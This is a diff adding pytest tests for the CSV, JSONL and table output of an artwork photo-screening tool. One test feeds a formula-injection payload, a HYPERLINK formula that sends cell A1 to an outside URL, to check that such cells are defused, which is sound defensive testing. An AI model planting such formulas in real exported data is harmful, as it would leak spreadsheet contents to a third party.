@@ -1,0 +1,192 @@
+"""The lines of a screening: JSON, CSV that a spreadsheet opens without running anything, and the table."""
+
+import csv
+import io
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cli.sheets import CSV_COLUMNS, defused, each_work, render_csv, render_jsonl, render_table
+
+FIRST = [
+    *("photo", "outcome", "object_id", "distance", "match_threshold", "authenticity_threshold", "local_distance"),
+    *("local_threshold", "reasons", "sha256", "error", "combined_distance", "combined_threshold"),
+    *("likelihood_ratio", "p_value"),
+]
+MORE = [
+    *("priority", "alert", "status", "lot", "sale", "house", "claim", "claim_outcome", "maker", "url", "lot_columns"),
+    *("same_as", "seen_before", "region"),
+]
+EARLIER = {
+    "date": "2025-03-01T09:00:00+00:00",
+    "photo": "/march/1.jpg",
+    "lot": {"lot": "12", "house": "Koller", "note": "x"},
+    "verdict": 3,
+    "by": "photo",
+}
+
+
+def work(outcome: str = "consistent", **changed: Any) -> dict[str, Any]:
+    places = {"local": 0.3, "threshold": 0.5, "combined": 0.36, "combined_threshold": 0.45}
+    best = {
+        "rank": 1,
+        "object_id": "7",
+        "exemplar": "7.png",
+        "distance": 0.2,
+        "match_threshold": 0.8,
+        "authenticity_threshold": 0.4,
+        "registration": None,
+        "divergence": places,
+    }
+    given = {"region": [0, 5, 30, 20], "outcome": outcome, "reasons": ["within", "calibrated"], "matches": [best]}
+    return given | {"likelihood_ratio": 2.5, "p_value": None} | changed
+
+
+def record(*works: dict[str, Any], **changed: Any) -> dict[str, Any]:
+    return {"photo": "a.jpg", "sha256": "00ff", "works": list(works), "error": None} | changed
+
+
+def rows(*records: dict[str, Any], bom: bool = False) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO("".join(render_csv(each_work(records), bom=bom)))))
+
+
+def test_the_columns_keep_their_order_and_new_ones_follow() -> None:
+    assert list(CSV_COLUMNS) == FIRST + MORE
+    assert list(rows(record(work()))[0]) == FIRST + MORE
+
+
+def test_a_row_says_what_was_judged() -> None:
+    (row,) = rows(record(work(alert="stolen", status="Stolen")))
+    assert {name: text for name, text in row.items() if text} == {
+        "photo": "a.jpg",
+        "outcome": "consistent",
+        "object_id": "7",
+        "distance": "0.2",
+        "match_threshold": "0.8",
+        "authenticity_threshold": "0.4",
+        "local_distance": "0.3",
+        "local_threshold": "0.5",
+        "reasons": "within; calibrated",
+        "sha256": "00ff",
+        "combined_distance": "0.36",
+        "combined_threshold": "0.45",
+        "likelihood_ratio": "2.5",
+        "priority": "stolen",
+        "alert": "stolen",
+        "status": "Stolen",
+        "region": "0 5 30 20",
+    }
+
+
+def test_every_work_has_a_row_in_the_order_given_and_so_has_an_unreadable_photograph() -> None:
+    found = rows(record(work("no-match"), work("divergent")), record(error="truncated", sha256=None))
+    assert [(row["outcome"], row["priority"], row["error"]) for row in found] == [
+        ("no-match", "no-match", ""),
+        ("divergent", "divergent", ""),
+        ("unreadable", "unreadable", "truncated"),
+    ]
+
+
+def test_works_are_written_in_whatever_order_they_come() -> None:
+    first, second = record(work("no-match"), work("divergent")), record(error="truncated", photo="b.jpg")
+    lines = list(render_csv([(second, None), (first, 1), (first, 0)], bom=False))
+    assert [line.split(",")[:2] for line in lines[1:]] == [
+        ["b.jpg", "unreadable"],
+        ["a.jpg", "divergent"],
+        ["a.jpg", "no-match"],
+    ]
+
+
+def test_the_lot_is_kept_and_its_claim_answered() -> None:
+    lot = {"lot": "12", "sale": "May", "house": "Koller", "claim": "K 7", "maker": "N. N.", "url": "https://x.org/1"}
+    judged = {"claimed": "K 7", "object_id": "7", "work": work("divergent"), "reason": None}
+    (row,) = rows(record(work("no-match"), lot=lot | {"höhe": "12 cm", "note": ""}, claim=judged))
+    assert {name: row[name] for name in lot} == lot
+    assert json.loads(row["lot_columns"]) == {"höhe": "12 cm", "note": ""}
+    assert (row["claim_outcome"], row["priority"]) == ("divergent", "claim not upheld")
+    unknown = {"claimed": "K 8", "object_id": None, "work": None, "reason": "there is no object K 8"}
+    (row,) = rows(record(work(), lot=lot, claim=unknown))
+    assert (row["claim"], row["claim_outcome"], row["lot_columns"]) == ("K 8", "there is no object K 8", "")
+
+
+def test_what_is_the_same_and_what_was_seen_before_is_said() -> None:
+    (row,) = rows(record(work(), same_as="b.jpg", seen_before=[EARLIER, EARLIER | {"by": "object", "lot": None}]))
+    assert row["same_as"] == "b.jpg"
+    assert row["seen_before"] == (
+        "this photograph on 2025-03-01: /march/1.jpg (lot 12, house Koller), verdict 3; "
+        "this object on 2025-03-01: /march/1.jpg, verdict 3"
+    )
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_a_cell_that_starts_like_a_formula_is_defused(sign: str) -> None:
+    formula = f'{sign}HYPERLINK("http://x.org/?"&A1, "1")'
+    (row,) = rows(
+        record(work(reasons=[formula], status=formula), photo=formula, error=formula, lot={"lot": formula, sign: "1"})
+    )
+    assert [row[name] for name in ("photo", "reasons", "status", "error", "lot")] == [f"'{formula}"] * 5
+    assert row["lot_columns"].startswith("{")
+    assert defused(f"1{formula}") == f"1{formula}"
+
+
+@pytest.mark.parametrize("number", ["-0.5", "+3", "-12", "1e-05", "-1E+3", "", "0", "٣"])
+def test_a_plain_number_stays_a_number(number: str) -> None:
+    assert defused(number) == number
+
+
+@pytest.mark.parametrize("text", ["-0.5+1", "-1-1", "+44 20 7946", "--1", "-.", "-", "-0.5\n", "-1e", "-٣", "-1;2"])
+def test_what_only_begins_like_a_number_is_defused(text: str) -> None:
+    assert defused(text) == f"'{text}"
+
+
+@given(st.lists(st.text(), min_size=3, max_size=3))
+def test_any_text_comes_back_as_one_cell_that_is_no_formula(texts: list[str]) -> None:
+    photo, reason, maker = texts
+    (row,) = rows(record(work(reasons=[reason]), photo=photo, lot={"maker": maker}))
+    for text, cell in zip(texts, (row["photo"], row["reasons"], row["maker"]), strict=True):
+        assert cell in (kept := text.encode(errors="replace").decode(), f"'{kept}")
+        assert cell == "" or cell[0] not in "=@\t\r\n"
+
+
+def test_a_mark_says_that_it_is_utf_8_where_that_is_wanted() -> None:
+    with_mark, without = (
+        "".join(render_csv([(record(work(), photo="Ä\udcff.jpg"), 0)], bom=bom)) for bom in (True, False)
+    )
+    assert with_mark == "\ufeff" + without
+    assert with_mark.encode().startswith(b"\xef\xbb\xbfphoto,outcome,")
+    assert without.splitlines()[1].startswith("Ä?.jpg,consistent,")
+
+
+def test_jsonl_gives_the_records_back() -> None:
+    given = [record(work(), photo="Ä\n\udcff"), record(error="x")]
+    lines = list(render_jsonl(given))
+    assert [json.loads(line) for line in lines] == given
+    assert all(line.isascii() and line.count("\n") == 1 for line in lines)
+
+
+def test_an_alert_stands_in_the_table_in_place_of_the_outcome() -> None:
+    given = [
+        record(work(alert="known forgery"), work("no-match", matches=[])),
+        record(error="truncated", photo="b\n.jpg"),
+    ]
+    heading, *lines = render_table(each_work(given))
+    assert heading.split() == ["outcome", "distance", "local", "object", "photo"]
+    assert lines[0] == "KNOWN FORGERY    0.200  0.300  7                a.jpg\n"
+    assert lines[1].split() == ["no-match", "a.jpg"]
+    assert lines[2].split(maxsplit=1) == ["unreadable", "b\ufffd.jpg: truncated\n"]
+    assert len({line.index(".jpg") for line in lines[:2]}) == 1
+
+
+def test_the_table_says_what_else_is_known_of_a_photograph() -> None:
+    judged = {"claimed": "K 7", "object_id": "7", "work": work("divergent"), "reason": None}
+    unknown = {"claimed": "K 8", "object_id": None, "work": None, "reason": "there is no object K 8"}
+    records = [record(work(), same_as="b.jpg", claim=judged, seen_before=[EARLIER]), record(work(), claim=unknown)]
+    _, first, second = render_table(each_work(records))
+    assert first.endswith(
+        "a.jpg: same file as b.jpg: claimed K 7, divergent: "
+        "seen before, this photograph on 2025-03-01: /march/1.jpg (lot 12, house Koller), verdict 3\n"
+    )
+    assert second.endswith("a.jpg: claimed K 8, there is no object K 8\n")
